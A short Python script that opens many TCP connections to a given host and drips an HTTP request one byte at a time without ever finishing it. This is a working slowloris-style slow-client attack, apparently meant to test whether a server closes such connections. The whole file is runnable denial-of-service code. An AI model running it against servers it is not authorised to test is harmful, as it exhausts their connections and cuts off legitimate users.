#!/usr/bin/env python3
"""trickle.py HOST PORT N: N connections that send a request a byte at a
time, one byte every 0.2 s, never ending it (the slow client of a
slowloris).  Prints "open N" once all are connected, then trickles until
it is killed or the server has closed them all; prints how many the
server closed as "closed K" at the end."""

import socket
import sys
import time

host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
conns = []
for _ in range(n):
    s = socket.create_connection((host, port))
    s.setblocking(False)
    conns.append(s)
print("open", len(conns), flush=True)
head = b"GET /api/v1/status HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
closed = 0
i = 0
while conns and i < len(head):
    alive = []
    for s in conns:
        try:
            s.send(head[i:i + 1])
            alive.append(s)
        except OSError:
            closed += 1
            s.close()
    conns = alive
    i += 1
    time.sleep(0.2)
print("closed", closed, flush=True)
